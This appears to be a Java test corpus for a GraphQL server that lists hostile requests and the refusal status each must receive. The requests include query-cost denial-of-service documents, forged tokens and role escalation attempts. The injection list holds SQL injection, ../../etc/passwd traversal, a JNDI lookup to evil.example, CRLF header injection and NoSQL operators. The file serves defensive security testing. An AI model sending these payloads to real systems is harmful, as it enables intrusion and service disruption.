package io.tributary.graphql.request;

import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Requests that mean harm, and how each has to be refused. */
public final class HostileCorpus {
  private static final String TYPE = "Content-Type";
  private static final String JSON = "application/json";
  private static final String JOBS = "{ jobs { name } }";

  /**
   * A request that means harm.
   *
   * @param name what it tries
   * @param method of HTTP
   * @param query what follows the path, with its question mark; empty for nothing
   * @param headers its headers
   * @param body its body
   * @param status the answer's status
   * @param code the error's code; null when the answer carries none
   */
  public record Hostile(
      String name,
      String method,
      String query,
      Map<String, String> headers,
      String body,
      int status,
      String code) {}

  private final List<Hostile> all = new ArrayList<>();
  private final Function<String, String> tokens;

  private HostileCorpus(Function<String, String> tokens) {
    this.tokens = tokens;
  }

  /**
   * All of them.
   *
   * @param tokens gives a true token for a role
   * @param keyDirectory where the key is with which true ones are signed
   * @param publicKey what checks them, as text
   */
  public static List<Hostile> all(
      Function<String, String> tokens, Path keyDirectory, String publicKey) {
    Map<String, String> forged = ForgedTokens.all(keyDirectory, publicKey);
    HostileCorpus corpus = new HostileCorpus(tokens);
    corpus.documents();
    corpus.schemaAndRoles();
    corpus.transport();
    corpus.bodies();
    corpus.injections();
    corpus.neighbours();
    forged.forEach(
        (name, token) ->
            corpus.add(
                "token " + name,
                Map.of("Authorization", "Bearer " + token, TYPE, JSON),
                body(JOBS),
                401,
                null));
    corpus.add("no token", Map.of(TYPE, JSON), body(JOBS), 401, null);
    corpus.add(
        "a token in a cookie",
        Map.of("Cookie", "Authorization=Bearer " + tokens.apply("admin"), TYPE, JSON),
        body(JOBS),
        401,
        null);
    corpus.all.add(
        new Hostile(
            "a token in the address",
            "GET",
            "?access_token=" + tokens.apply("admin") + "&query=%7B%20jobs%20%7B%20name%20%7D%20%7D",
            Map.of(),
            "",
            401,
            null));
    corpus.add(
        "a password",
        Map.of("Authorization", "Basic YWRtaW46YWRtaW4=", TYPE, JSON),
        body(JOBS),
        401,
        null);
    return List.copyOf(corpus.all);
  }

  private void documents() {
    String doubling =
        "{ jobs { ...F0 } } "
            + IntStream.range(0, 30)
                .mapToObj(i -> "fragment F%d on Job { ...F%d ...F%d }".formatted(i, i + 1, i + 1))
                .collect(Collectors.joining(" "));
    costly(
        "fragments that double, with aliases",
        doubling + " fragment F30 on Job { a: name b: cron }");
    costly("fragments that double, without", doubling + " fragment F30 on Job { name cron }");
    costly(
        "fragments that double over lists",
        "{ customers { edges { node { ...G0 } } } } "
            + IntStream.range(0, 12)
                .mapToObj(
                    i ->
                        "fragment G%d on Customer { ...G%d orders { edges { node { id } } } ...G%d }"
                            .formatted(i, i + 1, i + 1))
                .collect(Collectors.joining(" "))
            + " fragment G12 on Customer { x: id }");
    costly(
        "levels",
        "{ customers { edges { node { "
            + "mergedInto { ".repeat(10)
            + "id"
            + " }".repeat(10)
            + " } } } }");
    costly(
        "levels inside a fragment",
        "{ customers { edges { node { ...A } } } } fragment A on Customer { "
            + "mergedInto { ".repeat(12)
            + "id"
            + " }".repeat(13));
    costly("aliases", "{ " + times(16, "a#: jobs { name }") + " }");
    costly("a thousand aliases", "{ " + times(300, "a#: __typename") + " }");
    costly("aliases of a field", "{ jobs { " + times(100, "a#: name") + " } }");
    costly("directives", "{ jobs { name " + "@include(if: true) ".repeat(51) + "} }");
    costly("directives that nobody knows", "{ jobs { name " + "@a ".repeat(200) + "} }");
    costly("root fields", "{ " + "jobs { name } ".repeat(21) + "}");
    costly("one field over and over", "{ jobs { " + "name ".repeat(5_000) + "} }");
    costly("braces without end", "{ jobs " + "{ x ".repeat(600) + "}".repeat(601));
    costly(
        "brackets without end", "{ jobs(x: " + "[".repeat(600) + "]".repeat(600) + ") { name } }");
    costly("variables without end", "query(" + times(400, "$v#: Int") + ") " + JOBS);
    costly("a document of comments and commas", "{ jobs { name } }" + ",".repeat(60_000));
    costly(
        "lists of lists of lists",
        "{ customers(first: 100) { edges { node { orders(first: 100) { edges { node { lines { product { id } } } } } } } } }");
    costly(
        "a page size out of range that is cheap",
        "{ customers(first: -1) { edges { node { orders(first: 2147483647) { edges { node { lines { product { id } } } } } } } } }");
    refused("a fragment that spreads itself", "{ jobs { ...A } } fragment A on Job { ...A }");
    refused(
        "fragments in a circle",
        "{ jobs { ...A } } fragment A on Job { ...B } fragment B on Job { ...A }");
    refused("two operations and no name", "query A { jobs { name } } query B { jobs { name } }");
    refused("a field that is not there", "{ passwords }");
    refused("a type's name for a field", "{ Customer { id } }");
    refused("text that is no document", "'; DROP TABLE customer; --");
    refused("a string that does not end", "{ customer(id: \"");
    refused("an empty document", "");
    refused("a variable of another type", "query($a: [Int!]!) { customer(id: $a) { id } }");
    refused("nothing for what must be given", "{ node(id: null) { id } }");
    refused("a name in the place of a number", "{ customers(first: ALL) { totalCount } }");
    refused("a subscription over HTTP", "subscription { importProgress(id: \"imp_1\") { state } }");
  }

  private void schemaAndRoles() {
    for (String role : List.of("member", "till")) {
      forbidden(role, "the schema", "{ __schema { types { name } } }");
      forbidden(role, "a type", "{ __type(name: \"Customer\") { fields { name } } }");
      forbidden(
          role,
          "the schema within a fragment",
          "{ ...A } fragment A on Query { __schema { queryType { name } } }");
      forbidden(role, "the list of customers", "{ customers { edges { node { id } } } }");
      forbidden(role, "jobs under an alias", "{ me: jobs { name } }");
    }
    forbidden(
        "member",
        "somebody else by id",
        "{ customer(id: \"cus_01m853a2xxfkdrwj4awfrbpwav\") { id } }");
    forbidden(
        "member",
        "somebody else by node",
        "{ node(id: \"cus_01m853a2xxfkdrwj4awfrbpwav\") { id } }");
    forbidden(
        "analyst",
        "a person by number",
        "{ customer(identifier: {kind: PHONE, value: \"+8613912345678\"}) { id } }",
        200);
    forbidden(
        "analyst",
        "a write key",
        "mutation { rotateWriteKey(input: {source: \"src_1\"}) { writeKey } }");
    forbidden(
        "till",
        "a new source",
        "mutation { createSource(input: {name: \"x\", kind: ONLINE}) { writeKey } }");
    forbidden(
        "service",
        "a write behind a read's name",
        "mutation jobs { runJob(input: {name: \"refresh-retention\"}) { id } }");
    forbidden(
        "marketer",
        "a merge",
        "mutation { mergeCustomers(input: {survivor: \"a\", absorbed: \"b\", version: \"c\"}) { merge { id } } }");
  }

  private void transport() {
    for (String type :
        List.of(
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/graphql",
            "application/json; charset=utf-16",
            "text/json")) {
      add("content type " + type, signed("admin", type), body(JOBS), 415, null);
    }
    String write =
        URLEncoder.encode(
            "mutation { createSource(input: {name: \"g\", kind: ONLINE}) { writeKey } }",
            StandardCharsets.UTF_8);
    all.add(
        new Hostile(
            "a write by GET", "GET", "?query=" + write, signed("admin", JSON), "", 405, null));
    all.add(
        new Hostile(
            "a write by GET behind another operation",
            "GET",
            "?operationName=B&query="
                + URLEncoder.encode(
                    "query A { jobs { name } } mutation B { runJob(input: {name: \"x\"}) { id } }",
                    StandardCharsets.UTF_8),
            signed("admin", JSON),
            "",
            405,
            null));
    for (String method : List.of("DELETE", "PUT", "PATCH")) {
      all.add(
          new Hostile("by " + method, method, "", signed("admin", JSON), body(JOBS), 405, null));
    }
    Map<String, String> accepting = new LinkedHashMap<>(signed("admin", JSON));
    accepting.put("Accept", "text/html");
    add("an answer as a page", accepting, body(JOBS), 406, null);
  }

  private void bodies() {
    String deep = "[".repeat(20_000) + "]".repeat(20_000);
    json(
        "variables without end",
        "{\"query\": \"" + JOBS + "\", \"variables\": {\"x\": " + deep + "}}",
        400);
    json("a body without end", "[".repeat(50_000), 400);
    json("a list of requests", "[" + body(JOBS) + "," + body(JOBS) + "]", 400);
    json("half a body", "{\"query\": \"{ jobs", 400);
    json("no body", "", 400);
    json("a number for a document", "{\"query\": 1}", 400);
    json("text for variables", "{\"query\": \"" + JOBS + "\", \"variables\": \"x\"}", 400);
    json(
        "a list for an operation's name",
        "{\"query\": \"" + JOBS + "\", \"operationName\": [1]}",
        400);
    json("no document", "{\"variables\": {}}", 400);
    json("too long", "{\"query\": \"" + " ".repeat(300 * 1024) + JOBS + "\"}", 413);
    json(
        "a hash that nobody registered",
        "{\"extensions\": {\"persistedQuery\": {\"version\": 1, \"sha256Hash\": \""
            + "0".repeat(64)
            + "\"}}}",
        400);
  }

  private void injections() {
    List<String> harm =
        List.of(
            "' OR '1'='1",
            "'; DROP TABLE customer; --",
            "\\\" } }",
            "../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "\u0000",
            "a\r\nX-Injected: 1",
            "%00",
            "{\"$gt\": \"\"}");
    for (String text : harm) {
      String document = "query($v: String) { customers(first: 2, after: $v) { totalCount } }";
      add(
          "cursor " + printable(text),
          signed("admin", JSON),
          body(document, text),
          200,
          "INVALID_INPUT");
      String source = "query($v: ID) { customers(filter: {source: $v}) { totalCount } }";
      add(
          "source " + printable(text),
          signed("admin", JSON),
          body(source, text),
          200,
          "INVALID_INPUT");
      String merge =
          "mutation($v: ID!) { mergeCustomers(input: {survivor: $v, absorbed: $v, version: \"1\"}) { merge { id } } }";
      add("id " + printable(text), signed("admin", JSON), body(merge, text), 200, "NOT_FOUND");
      String order = "query($v: CustomerOrder) { customers(orderBy: $v) { totalCount } }";
      add(
          "order " + printable(text),
          signed("admin", JSON),
          body(order, text),
          400,
          "INVALID_INPUT");
    }
  }

  private static String printable(String text) {
    return text.replace("\u0000", "NUL").replace("\r\n", "CRLF");
  }

  /** What lies below the endpoint, and what only looks like a way to it. */
  private void neighbours() {
    Map<String, String> upgrade = Map.of(TYPE, JSON, "X-Upgrade", "websocket");
    all.add(
        new Hostile(
            "the schema without a token", "GET", "/schema.graphql", upgrade, "", 401, null));
    for (String role : List.of("member", "till")) {
      all.add(
          new Hostile(
              role + ": the schema's text",
              "GET",
              "/schema.graphql",
              signed(role, JSON),
              "",
              403,
              null));
    }
    all.add(
        new Hostile(
            "a slash more, without a token",
            "POST",
            "/",
            Map.of(TYPE, JSON),
            body(JOBS),
            401,
            null));
    all.add(
        new Hostile(
            "a path below, without a token",
            "POST",
            "/x",
            Map.of(TYPE, JSON),
            body(JOBS),
            401,
            null));
  }

  private void costly(String name, String document) {
    add(name, signed("admin", JSON), body(document), 400, "QUERY_TOO_COSTLY");
  }

  private void refused(String name, String document) {
    add(name, signed("admin", JSON), body(document), 400, "INVALID_INPUT");
  }

  private void forbidden(String role, String name, String document) {
    forbidden(role, name, document, 400);
  }

  private void forbidden(String role, String name, String document, int status) {
    add(role + ": " + name, signed(role, JSON), body(document), status, "FORBIDDEN");
  }

  private void json(String name, String body, int status) {
    add(name, signed("admin", JSON), body, status, null);
  }

  private void add(String name, Map<String, String> headers, String body, int status, String code) {
    all.add(new Hostile(name, "POST", "", headers, body, status, code));
  }

  private Map<String, String> signed(String role, String type) {
    return Map.of(
        "Authorization",
        "Bearer " + tokens.apply(role),
        TYPE,
        type,
        "Accept",
        "application/graphql-response+json");
  }

  private static String body(String document) {
    return new JsonObject().put("query", document).encode();
  }

  private static String body(String document, String value) {
    return new JsonObject()
        .put("query", document)
        .put("variables", new JsonObject().put("v", value))
        .encode();
  }

  private static String times(int n, String format) {
    return IntStream.range(0, n)
        .mapToObj(i -> format.replace("#", Integer.toString(i)))
        .collect(Collectors.joining(" "));
  }
}
